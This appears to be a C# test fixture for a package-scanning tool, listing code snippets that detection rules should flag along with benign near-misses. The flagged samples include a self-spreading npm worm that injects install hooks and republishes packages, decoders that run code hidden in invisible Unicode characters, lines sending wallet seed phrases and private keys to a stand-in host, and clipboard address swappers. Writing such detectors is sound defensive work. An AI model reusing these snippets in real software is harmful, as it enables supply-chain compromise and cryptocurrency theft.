namespace Symbiont.Scanning.Tests.Capabilities;

/// <summary>Packages that spread, hide code in letters nobody sees and take wallets, and honest ones that look like them.</summary>
internal static class SpreadCases
{
    public static readonly (string Rule, string File, string Text)[] Hits =
    [
        ("copies-itself", "spread.js", "for (const p of mine) {\n  const j = JSON.parse(fs.readFileSync(p + '/package.json'));\n  j.scripts.postinstall = 'node bundle.js';\n  fs.writeFileSync(p + '/package.json', JSON.stringify(j));\n  execSync('npm publish', { cwd: p });\n}\n"),
        ("copies-itself", "spread.py", "for name in names:\n    data = json.load(open(name))\n    data['scripts']['preinstall'] = 'node run.js'\n    json.dump(data, open(name, 'w'))\n    subprocess.run(['npm', 'publish', '--access', 'public'])\n"),
        ("copies-itself", "spread.sh", "for d in */; do\n  cd $d\n  npm pkg set scripts.postinstall='node run.js'\n  npm publish\n  cd ..\ndone\n"),
        ("decoded-code", "show.js", "const turn = t => [...t].map(c => c.codePointAt(0) - 0xE0100 + 16);\neval(Buffer.from(turn(words)).toString());\n"),
        ("decoded-code", "show.py", "plain = ''.join(chr(ord(c) - 0xE0000) for c in words if ord(c) > 917504)\nexec(plain, globals())\n"),
        ("decoded-code", "show.lua", "local out = {}\nfor _, c in utf8.codes(words) do out[#out + 1] = string.char(c - 0xE0100) end\nload(table.concat(out))()\n"),
        ("credentials-leave", "words.py", "def restore(mnemonic):\n    requests.post('https://in.example.net/w', json={'w': mnemonic})\n    return derive(mnemonic)\n"),
        ("credentials-leave", "words.ts", "export async function open(wallet: Wallet) {\n  await fetch(`https://in.example.net/w?k=${wallet.privateKey}`);\n}\n"),
        ("credentials-leave", "Words.cs", "await http.PostAsync(\"https://in.example.net/w\", new StringContent(seedPhrase));\n"),
        ("swaps-numbers", "swap.js", "const c = require('clipboardy');\nsetInterval(() => {\n  if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(c.readSync())) c.writeSync(mine);\n}, 800);\n"),
        ("swaps-numbers", "swap.mjs", "import clipboardy from 'clipboardy';\nsetInterval(async () => {\n  const now = await clipboardy.read();\n  if (/^0x[a-fA-F0-9]{40}$/.test(now)) clipboardy.write(mine);\n}, 500);\n"),
    ];

    public static readonly (string Rule, string File, string Text)[] NearMisses =
    [
        ("copies-itself", "make.js", "const j = { name };\nj.scripts = {};\nj.scripts.postinstall = 'node build.js';\nfs.writeFileSync('package.json', JSON.stringify(j));\n"),
        ("copies-itself", "release.sh", "npm run build\nnpm version patch\nnpm publish\n"),
        ("decoded-code", "width.js", "export const isWide = c => c >= 0xE0100 && c <= 0xE01EF ? 0 : 1;\n"),
        ("credentials-leave", "pay.py", "signed = account.sign_transaction(transfer)\nrequests.post('https://chain.example.org/send', json={'raw': signed.hex()})\n"),
        ("credentials-leave", "words2.py", "words = Mnemonic('english').generate()\nprint(words)\nrates = requests.get('https://rates.example.org/now').json()\n"),
        ("swaps-numbers", "copy.js", "const clipboardy = require('clipboardy');\nbutton.on('click', () => clipboardy.writeSync(address));\n"),
    ];
}
